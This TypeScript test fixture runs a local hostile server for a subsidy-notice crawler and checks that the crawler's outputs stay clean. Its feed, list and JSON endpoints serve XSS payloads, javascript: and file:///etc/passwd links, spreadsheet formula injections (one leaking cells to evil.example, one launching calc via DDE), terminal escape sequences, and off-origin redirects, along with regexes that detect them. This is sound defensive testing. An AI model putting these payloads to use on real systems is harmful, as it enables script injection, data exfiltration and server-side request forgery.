import { writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

/**
 * A hostile site for the crawler: one local HTTP server (`hostile.localhost:<port>`) serving an RSS
 * feed, an HTML list and a jGrants-shaped JSON API whose links, redirects and titles try to smuggle
 * something into the portal's outputs, and a second server on another port (`bait`) that nothing
 * may ever contact. Every title carries the word `危険` so one search finds them all.
 */

/** The word in every hostile title. */
export const hostileWord = '危険';

/** Links the site prints; none of them may come out of any output. */
function hostileLinks(port: number): string[] {
  return [
    'javascript:window.__pwned=1',
    ' JaVaScRiPt:window.__pwned=1',
    'java\tscript:window.__pwned=1',
    'data:text/html,<script>window.__pwned=1</script>',
    'file:///etc/passwd',
    'vbscript:msgbox(1)',
    `http://user:pass@hostile.localhost:${port}/creds.html`,
    `//user:pass@hostile.localhost:${port}/creds2.html`,
  ];
}

/** Titles the site prints: markup, control characters, formula cells and one of 100 KB. */
const hostileTitles: readonly string[] = [
  `<script>window.__pwned=1</script>${hostileWord}スクリプト`,
  `<img src=x onerror="window.__pwned=1">${hostileWord}画像`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"${hostileWord}")`,
  `＝cmd|' /C calc'!A0 ${hostileWord}`,
  `+SUM(1,2) ${hostileWord}`,
  `－1+1 ${hostileWord}`,
  `@SUM(A1) ${hostileWord}`,
  `＠SUM(A1) ${hostileWord}`,
  `\u001b[31m${hostileWord}エスケープ\u001b[0m`,
  `${hostileWord}削除\u007f文字`,
  `${hostileWord}次行\u0085文字`,
  `${hostileWord}\u009b31m制御`,
  `${hostileWord}巨大${'あ'.repeat(34_000)}`,
];

/** The enormous title's run: no output may carry 1,001 of these in a row. */
const enormousRun = 'あ'.repeat(1001);

/** What a finding looks like: the output, the rule, and a short excerpt. */
export interface Finding {
  readonly output: string;
  readonly rule: string;
  readonly excerpt: string;
}

// eslint-disable-next-line no-control-regex -- finding control characters is the point
const controlCharacter = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

/**
 * Rules every output obeys, whatever its format: no non-http scheme, no credentials, no control
 * character (tab, LF and CR aside), no enormous title. `markup` adds the rules of HTML and XML
 * outputs: no live `<script>` or event-handler `<img>` of ours.
 */
export function findHostile(output: string, text: string, options: { markup?: boolean } = {}): Finding[] {
  const rules: [string, RegExp][] = [
    ['javascript: URL', /javascript:/i],
    ['vbscript: URL', /vbscript:/i],
    ['data: URL', /(^|[^a-z])data:text/i],
    ['file: URL', /file:\/\//i],
    ['credentials in a URL', /user:pass@/i],
    ['control character', controlCharacter],
    ['enormous title', new RegExp(enormousRun)],
  ];
  if (options.markup) {
    rules.push(['live script tag', /<script>window/i], ['live img handler', /<img src=x/i]);
  }
  const out: Finding[] = [];
  for (const [rule, pattern] of rules) {
    const match = pattern.exec(text);
    if (match)
      out.push({ output, rule, excerpt: JSON.stringify(text.slice(Math.max(0, match.index - 40), match.index + 40)) });
  }
  return out;
}

/** Formula starts a spreadsheet runs, in half and full width. */
export const formulaStart = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r]/;

/** Splits RFC 4180 text into rows of unquoted cells. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

export interface HostileSite {
  readonly port: number;
  readonly baitPort: number;
  /** Every request the hostile server answered: its Host header and path. */
  readonly requests: readonly { host: string; path: string }[];
  /** Requests the bait server (the other port) received; must stay empty. */
  readonly baitRequests: readonly string[];
  /** Number of hostile payloads served (links, titles, redirects). */
  readonly payloads: number;
  /** Writes a registry of the hostile sources into `dir` and returns its path. */
  writeRegistry(dir: string): string;
  close(): Promise<void>;
}

const listen = async (server: Server): Promise<number> => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
};

const escapeXml = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Starts the hostile server and the bait server on free ports. */
export async function startHostileSite(): Promise<HostileSite> {
  const requests: { host: string; path: string }[] = [];
  const baitRequests: string[] = [];
  const bait = createServer((req, res) => {
    baitRequests.push(`${req.headers.host ?? ''}${req.url ?? ''}`);
    res.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${hostileWord}</p>`);
  });
  const baitPort = await listen(bait);
  let port = 0;
  const origin = () => `http://hostile.localhost:${port}`;
  const otherPort = () => `http://hostile.localhost:${baitPort}`;
  const links = () => hostileLinks(port);
  // Redirects and links that lead off the origin: another port, loopback by address, IPv6 loopback.
  const offOrigin = () => [
    `${otherPort()}/detail.html`,
    `http://127.0.0.1:${port}/detail-ok.html`,
    `http://[::1]:${port}/detail-ok.html`,
    `http://localhost:${baitPort}/detail.html`,
  ];
  // XML 1.0 refuses C0 controls, so the feed carries only the titles an XML parser accepts.
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const feedTitles = hostileTitles.filter((t) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(t));

  const server = createServer((req: IncomingMessage, res) => {
    const path = req.url ?? '/';
    requests.push({ host: req.headers.host ?? '', path });
    const html = (body: string) =>
      res
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(`<!doctype html><html><body>${body}</body></html>`);
    const json = (value: unknown) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));
    const redirect = (to: string) => res.writeHead(302, { location: to }).end();

    if (path === '/robots.txt') return res.writeHead(404).end();
    if (path === '/feed.xml') {
      const good = (n: number, title: string) =>
        `<item><title>${escapeXml(title)}</title><link>${origin()}/news/${n}.html</link><pubDate>Mon, 30 Nov 2026 09:00:00 +0900</pubDate><description>${escapeXml(title)}</description></item>`;
      const bad = (link: string, n: number) =>
        `<item><title>${hostileWord}リンク${n}</title><link>${escapeXml(link)}</link><pubDate>Mon, 30 Nov 2026 09:00:00 +0900</pubDate></item>`;
      const items = [...feedTitles.map((t, i) => good(i, t)), ...links().map(bad)].join('');
      res.writeHead(200, { 'content-type': 'application/rss+xml; charset=utf-8' });
      return res.end(
        `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>${hostileWord}</title><link>${origin()}/</link><description>x</description>${items}</channel></rss>`,
      );
    }
    if (path === '/list.html') {
      const row = (title: string, href: string) =>
        `<tr><td class="date">2026年11月30日</td><td class="title"><a href="${escapeXml(href)}">${escapeXml(title)}</a></td></tr>`;
      const rows = [
        ...hostileTitles.map((t, i) => row(t, `${origin()}/detail-${i}.html`)),
        ...links().map((l, i) => row(`${hostileWord}一覧リンク${i}`, l)),
        ...offOrigin().map((l, i) => row(`${hostileWord}別オリジン${i}`, l)),
        row(`${hostileWord}転送ポート`, `${origin()}/redirect-port.html`),
        row(`${hostileWord}転送ループバック`, `${origin()}/redirect-loopback.html`),
        row(`${hostileWord}転送IPv6`, `${origin()}/redirect-ipv6.html`),
        row(`${hostileWord}転送ファイル`, `${origin()}/redirect-file.html`),
      ];
      return html(
        `<table class="list">${rows.join('')}</table><a class="next" href="${otherPort()}/list2.html">次へ</a>`,
      );
    }
    if (path === '/redirect-port.html') return redirect(`${otherPort()}/detail.html`);
    if (path === '/redirect-loopback.html') return redirect(`http://127.0.0.1:${port}/detail-ok.html`);
    if (path === '/redirect-ipv6.html') return redirect(`http://[::1]:${port}/detail-ok.html`);
    if (path === '/redirect-file.html') return redirect('file:///etc/passwd');
    if (path === '/feed-moved.xml') return redirect(`${otherPort()}/feed.xml`);
    if (path === '/feed-loopback.xml') return redirect(`http://127.0.0.1:${port}/feed.xml`);
    if (path.startsWith('/detail')) return html(`<div id="content">${hostileWord} 締切 2026年12月25日</div>`);
    if (path.startsWith('/exp/v1/public/subsidies-id/')) {
      const id = decodeURIComponent(path.slice('/exp/v1/public/subsidies-id/'.length).replace(/\.json$/, ''));
      const n = Number(id.replace(/\D/g, ''));
      const detailUrls = [...links(), ...offOrigin(), 'https://www.jgrants-portal.go.jp/subsidy/ok'];
      return json({
        metadata: { resultset: { count: 1 } },
        result: [
          {
            id,
            title: hostileTitles[n % hostileTitles.length],
            subsidy_catch_phrase: `\u001b]8;;http://evil.example/\u0007${hostileWord}\u001b]8;;\u0007`,
            detail: `<p onclick="window.__pwned=1">${hostileWord}</p><script>window.__pwned=1</script>`,
            front_subsidy_detail_page_url: detailUrls[n % detailUrls.length],
          },
        ],
      });
    }
    if (path.startsWith('/exp/v1/public/subsidies')) {
      const count = hostileTitles.length + hostileLinks(port).length + 5;
      return json({
        metadata: { resultset: { count } },
        result: Array.from({ length: count }, (_, n) => ({
          id: `hostile${String(n).padStart(3, '0')}`,
          name: `S-${n}`,
          title: `${hostileTitles[n % hostileTitles.length]}`,
          target_area_search: '全国',
          subsidy_max_limit: 1000,
          acceptance_start_datetime: '2026-11-01T00:00:00.000Z',
          acceptance_end_datetime: '2026-12-25T08:00:00.000Z',
        })),
      });
    }
    res.writeHead(404).end();
  });
  port = await listen(server);

  const payloads =
    feedTitles.length +
    links().length * 3 /* feed, list, jGrants detail URL */ +
    hostileTitles.length * 2 /* list, jGrants */ +
    offOrigin().length * 2 /* list, jGrants */ +
    4 /* detail redirects: other port, 127.0.0.1, ::1, file: */ +
    2 /* start redirects: other port, 127.0.0.1 */ +
    1 /* next page on another port */ +
    3; /* jGrants catch phrase (OSC 8 hyperlink), detail markup, script */

  const writeRegistry = (dir: string): string => {
    const quality = {
      maxDroppedShare: 1,
      minDatedShare: 0,
      maxNavigationShare: 1,
      maxDuplicateTitleShare: 1,
      minItems: 0,
    };
    const common = {
      publisher: '危険な発行者',
      defaultKind: 'call',
      politeness: { minDelayMs: 0, maxPages: 3 },
      quality,
    };
    const registry = {
      registry: 'hostile',
      sources: [
        { id: 'hostile-feed', name: 'hostile feed', kind: 'feed', url: `${origin()}/feed.xml`, ...common },
        {
          id: 'hostile-list',
          name: 'hostile list',
          kind: 'html-list',
          url: `${origin()}/list.html`,
          list: { item: 'table.list tr', title: 'td.title a', link: 'td.title a', date: 'td.date', nextPage: 'a.next' },
          detail: { content: '#content' },
          ...common,
        },
        {
          id: 'hostile-jgrants',
          name: 'hostile jGrants',
          kind: 'json',
          adapter: 'jgrants',
          url: `${origin()}/exp/v1/public`,
          params: {
            keywords: [hostileWord],
            detailPath: '/subsidies-id/{id}.json',
            itemUrl: `${origin()}/subsidy/{id}`,
          },
          ...common,
        },
        {
          id: 'hostile-moved',
          name: 'moved to another port',
          kind: 'feed',
          url: `${origin()}/feed-moved.xml`,
          ...common,
        },
        {
          id: 'hostile-loopback',
          name: 'moved to loopback',
          kind: 'feed',
          url: `${origin()}/feed-loopback.xml`,
          ...common,
        },
      ],
    };
    const path = join(dir, 'hostile-registry.json');
    writeFileSync(path, JSON.stringify(registry, null, 2));
    return path;
  };

  return {
    port,
    baitPort,
    requests,
    baitRequests,
    payloads,
    writeRegistry,
    close: async () => {
      await Promise.all([server, bait].map((s) => new Promise<void>((resolve) => s.close(() => resolve()))));
    },
  };
}
